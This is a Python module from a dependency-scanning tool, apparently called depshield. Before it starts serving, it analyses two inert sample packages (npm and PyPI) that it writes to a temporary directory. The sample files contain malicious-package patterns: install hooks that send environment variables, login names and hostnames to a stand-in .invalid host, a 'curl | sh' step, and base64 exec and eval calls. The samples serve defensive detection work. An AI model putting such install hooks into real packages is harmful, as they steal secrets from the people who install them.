"""What the resident analyser does once before serving: analyse two small inert packages of its
own, so that every module, grammar query and compiled pattern a real run needs is loaded."""

from __future__ import annotations

import tempfile
from pathlib import Path

# Inert by construction: nothing here is ever run, and the only host is a reserved .invalid one.
_NPM = {
    "package.json": '{"name": "warm-up", "version": "1.0.0", "license": "MIT",\n'
    ' "scripts": {"postinstall": "node install.js && sh setup.sh"},\n'
    ' "dependencies": {"left-pad": "^1.3.0"}}\n',
    "install.js": "const cp = require('child_process'); const https = require('node:https');\n"
    "const os = require('os'); const fs = require('fs');\n"
    "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');\n"
    "https.get('https://warm.example.invalid/?d=' + data + os.hostname());\n"
    "eval(fs.readFileSync(__dirname + '/x.js', 'utf8')); cp.exec('id');\n",
    "lib/types.ts": "export const f = (x: number): number => x + 1;\n",
    "lib/view.tsx": "export const V = () => <div>{'\\u200b'}</div>;\n",
    "setup.sh": "curl -s https://warm.example.invalid/a | sh\n",
    "README.md": "# warm-up\n",
}
_PYPI = {
    "PKG-INFO": "Metadata-Version: 2.1\nName: warm-up\nVersion: 1.0\nLicense: MIT\n",
    "setup.py": "import os, subprocess, base64\nfrom setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "class I(install):\n    def run(self):\n"
    "        subprocess.run(['curl', 'https://warm.example.invalid/' + os.getlogin()])\n"
    "exec(base64.b64decode('cHJpbnQoMSk='))\n"
    "setup(name='warm-up', version='1.0', cmdclass={'install': I})\n",
    "warm_up/__init__.py": "import socket, urllib.request\n"
    "urllib.request.urlopen('https://warm.example.invalid/' + socket.gethostname())\n",
    "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\n',
}


def warm_up() -> None:
    """Analyse and report on the two packages above (no cache, no network, nothing kept)."""
    from depshield.analysis import examine
    from depshield.cli.main import prepare_parsers
    from depshield.daemon.protocol import COMMANDS
    from depshield.intel import popularity
    from depshield.judging import judge_examined
    from depshield.reports.base import Report
    from depshield.reports.formats import renderer

    results = []
    with tempfile.TemporaryDirectory(prefix="depshield-warm-") as tmp:
        for ecosystem, files in (("npm", _NPM), ("pypi", _PYPI)):
            root = Path(tmp) / ecosystem
            for name, text in files.items():
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                (root / name).write_text(text, encoding="utf-8")
            results.append(judge_examined(examine(root, ecosystem), root))
    for fmt in ("json", "text", "sarif", "markdown"):
        renderer(fmt)(Report(results), color=False)
    _compile_patterns()
    # A declared license that is not one SPDX id builds the license table's tokenizer.
    from depshield.intel.spdx import normalise

    normalise("GPL-2.0+ WITH Classpath-exception-2.0 OR Apache License 2.0")
    prepare_parsers(sorted(COMMANDS))
    # SQLite connections must not cross a fork: each child opens its own (the list facts,
    # plain data, stay).
    popularity.load_index.cache_clear()
    for ecosystem in ("npm", "pypi"):
        popularity.list_facts(ecosystem)
    # Archives: the warm-up packages are directories, the packages users check are not.
    import depshield.artifacts.tar
    import depshield.artifacts.zip  # noqa: F401


def _compile_patterns() -> None:
    """Compile every lazily compiled pattern of depshield's loaded modules (tables included),
    which children would otherwise each compile again."""
    import sys

    for name, module in list(sys.modules.items()):
        if name.startswith("depshield"):
            for value in list(vars(module).values()):
                _compile(value, depth=3)


def _compile(value: object, depth: int) -> None:
    from depshield.lazyre import LazyPattern

    if isinstance(value, LazyPattern):
        _ = value.compiled
    elif depth and isinstance(value, dict):
        for item in value.values():
            _compile(item, depth - 1)
    elif depth and isinstance(value, list | tuple | frozenset | set):
        for item in value:
            _compile(item, depth - 1)
